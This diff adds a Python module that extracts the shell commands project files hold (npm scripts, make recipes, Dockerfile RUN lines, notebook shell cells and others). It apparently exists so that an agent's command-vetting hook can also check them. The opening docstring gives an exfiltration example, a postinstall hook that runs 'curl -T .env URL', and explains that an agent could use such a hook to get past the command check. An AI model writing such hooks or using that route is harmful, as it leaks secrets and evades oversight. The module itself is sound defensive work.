@@ -1,0 +1,242 @@
+"""The shell commands a project file holds that a tool runs later (npm's scripts, make's recipes, just's, tox's
+`commands`, a Dockerfile's RUN, pre-commit's `entry`, a Procfile's, a notebook's `!cmd` and `%%bash` cells).
+
+An agent that writes `"postinstall": "curl -T .env URL"` into package.json and then runs `npm install` sends what it
+could not send by typing the command: the hook decides each such command as if the agent had typed it when the file
+is written. The readings are plain: what the tool would run, with the tool's own substitutions made (make's `$$` is
+`$`, a variable the file sets is its value); what the reading cannot follow is left as a word the analysis does not
+know, so it asks.
+"""
+from __future__ import annotations
+
+import json
+import re
+import shlex
+from typing import Any, Callable
+
+_MAKE = re.compile(r"^(?:GNUmakefile|[Mm]akefile|.+\.mk)$")
+_DOCKER = re.compile(r"^(?:Dockerfile|Containerfile)(?:\..+)?$|\.(?:[Dd]ockerfile|[Cc]ontainerfile)$")
+
+
+def run_file_kind(path: str) -> str:
+    """The tool whose commands the file at `path` holds ("" for none), by its name."""
+    name = path.rstrip("/").rsplit("/", 1)[-1]
+    if name in ("package.json", "composer.json"):
+        return "json_scripts"
+    if _MAKE.match(name):
+        return "make"
+    if name in ("justfile", "Justfile", ".justfile", "JUSTFILE"):
+        return "just"
+    if name == "tox.ini":
+        return "tox"
+    if _DOCKER.search(name):
+        return "docker"
+    if name in (".pre-commit-config.yaml", ".pre-commit-config.yml", ".pre-commit-hooks.yaml"):
+        return "pre_commit"
+    if name == "Procfile" or name.startswith("Procfile."):
+        return "procfile"
+    if name.endswith(".ipynb"):
+        return "notebook"
+    return ""
+
+
+def run_file_commands(path: str, text: str) -> list[str]:
+    """The shell commands `text`, the content of the file at `path`, holds for its tool to run later."""
+    kind = run_file_kind(path)
+    return [c for c in _READERS[kind](text) if c.strip()] if kind else []
+
+
+def _joined(text: str) -> list[str]:
+    """Lines with their backslash-newline continuations joined."""
+    return re.sub(r"\\\r?\n", " ", text).splitlines()
+
+
+def _json_scripts(text: str) -> list[str]:
+    try:
+        doc = json.loads(text)
+    except ValueError:
+        return []               # npm and composer refuse a file that is not JSON: nothing runs
+    scripts = doc.get("scripts") if isinstance(doc, dict) else None
+    if not isinstance(scripts, dict):
+        return []
+    return [s for v in scripts.values() for s in ([v] if isinstance(v, str) else v if isinstance(v, list) else [])
+            if isinstance(s, str)]
+
+
+_MAKE_SET = re.compile(r"^(?:export\s+|override\s+)?([A-Za-z_][\w.-]*)\s*(?::{1,3}=|\?=|\+=|!=|=)\s*(.*)$")
+_MAKE_DEFAULTS = {"CC": "cc", "CXX": "c++", "CPP": "cc -E", "LD": "ld", "AR": "ar", "AS": "as", "RM": "rm -f",
+                  "MAKE": "make", "FC": "f77", "SHELL": "/bin/sh"}
+
+
+def _make(text: str) -> list[str]:
+    lines = _joined(text)
+    prefix = "\t"
+    values = dict(_MAKE_DEFAULTS)
+    out: list[str] = []
+    for line in lines:
+        if line.startswith(".RECIPEPREFIX"):
+            prefix = (line.split("=", 1)[1].strip() or "\t")[:1] if "=" in line else "\t"
+            continue
+        if line.startswith(prefix) and prefix != "":
+            out.append(line[1:].strip().lstrip("@+-").strip())
+            continue
+        m = _MAKE_SET.match(line)
+        if m:
+            values[m.group(1)] = m.group(2)
+            if "!=" in line.split(m.group(2), 1)[0]:
+                out.append(m.group(2))               # `X != cmd` runs cmd when make reads the file
+        out += [c for c in re.findall(r"\$[({]shell\s+([^)}]*)[)}]", line)]
+        rule = re.match(r"^[^\s:#=][^:#=]*:(?!=)[^;]*;(.*)$", line)
+        if rule:
+            out.append(rule.group(1).strip().lstrip("@+-"))
+    return [_make_words(c, values) for c in out]
+
+
+def _make_words(command: str, values: dict[str, str], depth: int = 0) -> str:
+    """A recipe line as make hands it to the shell: `$$` is `$`, `$(X)` and `${X}` the value the file sets (the
+    defaults make knows), `$(shell c)` is `$(c)`, an automatic variable a file name."""
+    def sub(m: re.Match[str]) -> str:
+        whole = m.group(0)
+        if whole == "$$":
+            return "\0"
+        name = (m.group(1) or m.group(2) or m.group(3) or "").strip()
+        if name.startswith("shell "):
+            return "$(" + name[6:] + ")"
+        if name in values and depth < 8:
+            return _make_words(values[name], values, depth + 1)
+        return "target" if len(name) <= 1 or name[0] in "@<^*?%+|" else ""
+    return re.sub(r"\$\$|\$\(([^()]*)\)|\$\{([^{}]*)\}|\$(.)", sub, command).replace("\0", "$")
+
+
+def _just(text: str) -> list[str]:
+    values = {m.group(1): m.group(2).strip().strip("'\"") for m in
+              re.finditer(r"^(?:export\s+)?([A-Za-z_][\w-]*)\s*:=\s*(.*)$", text, re.M)}
+    out: list[str] = []
+    body: list[str] = []
+    interpreter = ""
+
+    def close() -> None:
+        if body and interpreter and not re.search(r"(?:^|/|\s)(?:ba|z|da|k)?sh$", interpreter):
+            out.append(f"{interpreter.split()[-1].rsplit('/', 1)[-1]} -c {shlex.quote(chr(10).join(body))}")
+        else:
+            out.extend(b.lstrip("@-") for b in body)
+        body.clear()
+
+    for line in _joined(text):
+        if line[:1] in (" ", "\t") and line.strip():
+            stripped = line.strip()
+            if not body and stripped.startswith("#!"):
+                interpreter = stripped[2:].strip()
+                continue
+            body.append(re.sub(r"\{\{\s*([\w-]+)\s*\}\}", lambda m: values.get(m.group(1), "x"), stripped))
+        elif line.strip():
+            close()
+            interpreter = ""
+            m = re.search(r"\$\(([^)]*)\)|`([^`]*)`", line) if ":=" in line else None
+            if m:
+                out.append(m.group(1) or m.group(2))       # a backtick or $() value runs when just reads the file
+    close()
+    return out
+
+
+_TOX_KEY = re.compile(r"^(commands(?:_pre|_post)?|install_command|list_dependencies_command)\s*=\s*(.*)$")
+
+
+def _tox(text: str) -> list[str]:
+    out: list[str] = []
+    taking = False
+    for line in _joined(text):
+        m = _TOX_KEY.match(line.strip()) if not line[:1].isspace() else None
+        if m:
+            taking, first = True, m.group(2)
+            out.append(first)
+        elif taking and line[:1].isspace() and line.strip():
+            out.append(line.strip())
+        elif line.strip():
+            taking = False
+    return [re.sub(r"\{[^{}]*\}", "x", c).lstrip("-! ") for c in out if not c.strip().startswith("#")]
+
+
+def _docker(text: str) -> list[str]:
+    out: list[str] = []
+    copied: list[tuple[str, str]] = []
+    lines = _joined(text)
+    i = 0
+    while i < len(lines):
+        line = lines[i].strip()
+        i += 1
+        word, _, rest = line.partition(" ")
+        word = word.upper()
+        if word in ("COPY", "ADD"):
+            parts = [p for p in shlex.split(rest, comments=False, posix=True) if not p.startswith("--")] \
+                if _splits(rest) else []
+            copied += [(src, parts[-1].rstrip("/")) for src in parts[:-1] if parts[-1].rstrip("/")]
+        if word != "RUN":
+            continue
+        rest = re.sub(r"^(?:--\S+\s+)*", "", rest.strip())
+        here = re.match(r"^<<-?\s*['\"]?(\w+)['\"]?\s*(.*)$", rest)
+        if here:
+            end, body = here.group(1), []
+            while i < len(lines) and lines[i].strip() != end:
+                body.append(lines[i])
+                i += 1
+            i += 1
+            rest = "\n".join(body)
+        elif rest.startswith("["):
+            try:
+                argv = json.loads(rest)
+            except ValueError:
+                argv = None
+            rest = shlex.join(argv) if isinstance(argv, list) and all(isinstance(a, str) for a in argv) else rest
+        for src, dst in sorted(copied, key=lambda c: -len(c[1])):   # the image's copy read back as the project's file
+            rest = re.sub(rf"(?<![\w./-]){re.escape(dst)}(?=/|\b|$)", src, rest)
+        out.append(rest)
+    return out
+
+
+def _splits(text: str) -> bool:
+    try:
+        shlex.split(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _pre_commit(text: str) -> list[str]:
+    return [m.group(1).strip().strip("'\"") for m in re.finditer(r"^\s*-?\s*entry\s*:\s*(.+)$", text, re.M)]
+
+
+def _procfile(text: str) -> list[str]:
+    return [m.group(1) for m in re.finditer(r"^[\w.-]+\s*:\s*(.+)$", text, re.M)]
+
+
+def _notebook(text: str) -> list[str]:
+    """A notebook file's cells (JSON), or one cell's source (NotebookEdit's new_source): what they run in a shell."""
+    try:
+        doc: Any = json.loads(text)
+    except ValueError:
+        return cell_commands(text)
+    cells = doc.get("cells") if isinstance(doc, dict) else None
+    out: list[str] = []
+    for cell in cells if isinstance(cells, list) else []:
+        source = cell.get("source") if isinstance(cell, dict) else None
+        out += cell_commands("".join(source) if isinstance(source, list) else source if isinstance(source, str) else "")
+    return out
+
+
+def cell_commands(source: str) -> list[str]:
+    """What one notebook cell runs in a shell: `!cmd`, `!!cmd`, `%sx cmd`, `%system cmd`, `x = !cmd`, and the whole
+    cell under `%%bash`, `%%sh`, `%%script bash|sh`, `%%system`."""
+    lines = source.splitlines()
+    first = lines[0].strip() if lines else ""
+    if re.match(r"^%%(?:bash|sh|system|script\s+(?:\S*/)?(?:ba|z|da)?sh)\b", first):
+        return ["\n".join(lines[1:])]
+    body = "\n".join(lines[1:]) if first.startswith("%%") else source    # %%time, %%capture: IPython reads the rest
+    return [m.group(1) for line in _joined(body)
+            for m in [re.match(r"^\s*(?:[\w, ]+=\s*)?(?:!!?|%sx\s|%system\s)(.*)$", line)] if m]
+
+
+_READERS: dict[str, Callable[[str], list[str]]] = {
+    "json_scripts": _json_scripts, "make": _make, "just": _just, "tox": _tox, "docker": _docker,
+    "pre_commit": _pre_commit, "procfile": _procfile, "notebook": _notebook,
+}
